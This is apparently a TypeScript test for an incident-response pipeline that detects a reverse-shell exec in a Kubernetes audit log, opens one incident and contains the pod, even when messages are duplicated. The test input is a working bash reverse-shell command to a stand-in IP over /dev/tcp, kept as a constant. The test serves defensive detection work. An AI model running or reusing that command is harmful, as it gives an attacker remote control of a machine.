import { strict as assert } from 'node:assert';
import { execEntry } from '../../local/scenarios/exec-entry.ts';
import { SHOP } from '../../local/world/seed.ts';
import { finding } from '../../shared/model/finding.ts';
import type { Topic } from '../../shared/model/ids.ts';
import { notice } from '../../shared/model/notice.ts';
import { CONTAIN, podNamed } from '../kit/containment.ts';
import { changesBy, isCarriedOut, stackFor, until } from './kit.ts';

const COMMAND = 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';

// One direction, over processes: audit log entry, finding, incident, decision, plan, steps, notices.
describe('from an audit log entry to a contained pod', function () {
  this.timeout(60_000);

  for (const copies of [1, 5]) {
    it(`one incident, one change each, where every message comes ${copies === 1 ? 'once' : `${copies} times`}`, async () => {
      await using run = await stackFor({ functions: ['detect-audit-log', 'decide', 'contain', 'notify'] });
      const { stack, desk } = run;
      stack.broker?.setFaults({ copies: () => copies });
      const pod = podNamed(desk, 'shop', 'cart').metadata.name;
      const who = { at: Date.now(), principal: 'ana@example.com', cluster: SHOP, namespace: 'shop', pod };
      await stack.publish('audit-log', execEntry({ ...who, command: COMMAND }));
      const [incident] = await until(async () => {
        const { items } = await stack.stores.incidents.list({});
        return isCarriedOut(items[0]) && items;
      });
      await stack.idle();

      const bodies = (topic: Topic): unknown[] =>
        (stack.broker?.published(topic) ?? []).map(({ data }) => JSON.parse(Buffer.from(data, 'base64').toString()));
      const findings = bodies('findings').map((body) => finding.parse(body));
      assert.ok(findings.some(({ rule }) => rule === 'exec-reverse-shell'));
      assert.equal((await stack.stores.incidents.list({})).items.length, 1);
      assert.equal(incident?.target.pod, pod);
      assert.equal(incident?.state, 'contained');
      assert.deepEqual(incident?.decision?.verdict, 'act');
      const kinds = bodies('notices').map((body) => notice.parse(body).kind);
      assert.ok(kinds.includes('opened') && kinds.includes('contained'), kinds.join(', '));
      const changes = changesBy(stack, CONTAIN);
      assert.ok(changes.length > 5);
      assert.equal(new Set(changes).size, changes.length);
      assert.equal(stack.broker?.counters().dead, 0);
    });
  }
});
